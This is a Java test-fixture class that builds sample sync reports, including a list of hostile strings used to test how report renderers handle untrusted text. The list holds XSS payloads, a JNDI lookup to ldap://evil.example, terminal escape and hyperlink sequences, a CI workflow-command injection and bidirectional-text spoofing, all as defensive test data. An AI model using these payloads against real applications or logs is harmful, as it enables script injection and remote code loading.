package dev.autosync.testkit;

import dev.autosync.SyncReport;
import dev.autosync.trend.TrendReport;
import java.nio.file.Path;
import java.util.List;

/**
 * Reports of cycles that never were, for tests of reporters.
 *
 * <p>Called by tests. Threads: safe to share; the reports are immutable.
 *
 * @since 0.1.0
 */
public final class SampleReports {
    private static final List<String> HOSTILE = List.of(
            "\u001b[31mred\u001b[0m \u001b[2J\u001b]0;owned\u0007",
            "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
            "<script>alert(1)</script><img src=x onerror=alert(2)>",
            "\"><svg/onload=alert(3)>",
            "\" onmouseover=\"alert(5)\" ' onfocus='alert(6)",
            "a | b | c |\n|---|---|\n# not a heading\n```\nnot code\n```",
            "first line\r\nsecond line\rthird\n\n::set-output name=x::y",
            "\u202egnp.exe\u202c \u2066isolated\u2069",
            "nul \0 bell \u0007 backspace \b\b\b\b escape \u009b31m",
            "[click](javascript:alert(4)) ![x](https://evil.example/x.png)",
            "${jndi:ldap://evil.example/a} {{7*7}} %s %n $1 \\1",
            "\ud83d\ude80 e\u0301 \u2028\u2029 \ufeff \ufffd \ud800",
            "x".repeat(3000));

    private SampleReports() {}

    /**
     * A green cycle in which nothing happened.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport empty(Path workspace) {
        return SampleReport.of(workspace, "Sample", true, SampleBatch.EMPTY, List.of(), TrendReport.none(), List.of(), List.of());
    }

    /**
     * A cycle with every kind of outcome, KPIs with and without a target, a history of 42 cycles, alerts, lessons in every state, and warnings.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport typical(Path workspace) {
        return TypicalCycle.report(workspace);
    }

    /**
     * A cycle of the same kinds with hostile text wherever text of others may stand, and values that are hard to draw.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport hostile(Path workspace) {
        return HostileCycle.report(workspace, HOSTILE);
    }

    /**
     * A cycle of 2,000 patches after a history of 200 cycles.
     *
     * @param workspace the workspace that it names
     * @return the report
     */
    public static SyncReport large(Path workspace) {
        return LargeCycle.report(workspace, 200, 2_000);
    }

    /**
     * A cycle of as many patches as wanted after as long a history as wanted.
     *
     * @param workspace the workspace that it names
     * @param cycles how long the history is, 4 or more
     * @param patches how many patches there are, 0 or more
     * @return the report
     */
    public static SyncReport large(Path workspace, int cycles, int patches) {
        return LargeCycle.report(workspace, cycles, patches);
    }

    /**
     * The hostile texts: escape sequences, markup, tables, line ends, bidirectional controls, templates, lone surrogates, length.
     *
     * @return each as it stands in {@link #hostile}
     */
    public static List<String> hostileTexts() {
        return HOSTILE;
    }
}
